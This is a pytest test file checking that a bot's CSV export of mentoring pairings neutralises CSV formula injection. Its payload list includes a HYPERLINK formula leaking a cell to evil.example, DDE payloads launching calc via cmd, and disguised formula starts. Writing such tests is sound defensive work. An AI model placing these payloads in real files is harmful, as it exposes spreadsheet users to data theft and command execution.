"""The CSV export follows OWASP's CSV injection guidance: no cell a spreadsheet could run as a formula
(= + - @, tab, carriage return, their full-width forms, behind blanks too), and every cell quoted."""

from __future__ import annotations

import csv
import io

import pytest

from bot.oversight.export import FORMULA_STARTS, export_pairings
from tests.harness import TEAM_ID, RunningBot
from tests.worlds.make import pairing, person

# OWASP's examples and their relatives: each would be a live formula in some spreadsheet.
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\t",
    "\r",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " =1+1",
    "\u00a0=1+1",
    "\u3000＝1+1",
    "\ufeff=1+1",
    '=cmd|"/C calc"!A0',
    'Ann "the =boss", Smith',
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_exported_cell_can_start_a_formula(bot: RunningBot, payload: str):
    now = bot.clock.now()
    with bot.runtime.db.transaction() as session:
        mentee = person(session, "UM", now, name=payload, real_name=payload, org_team=payload)
        copilot = person(session, "UC", now, name=f"x{payload}", real_name=payload, org_team="-Ops")
        pairing(session, mentee, copilot, now)
    text = export_pairings(bot.runtime, TEAM_ID).csv_text
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 2
    for cell in rows[1]:
        assert cell[:1] not in FORMULA_STARTS, cell
        assert cell.lstrip()[:1] not in FORMULA_STARTS, cell
    # Every cell is quoted (a quote inside is doubled), so no separator or line break inside can split it.
    body = text.split("\n", 1)[1]
    assert body.startswith('"') and body.rstrip("\n").endswith('"')
    # The text itself survives, behind the apostrophe.
    assert rows[1][5] in (payload, "'" + payload)
    assert rows[1][5].removeprefix("'") == payload
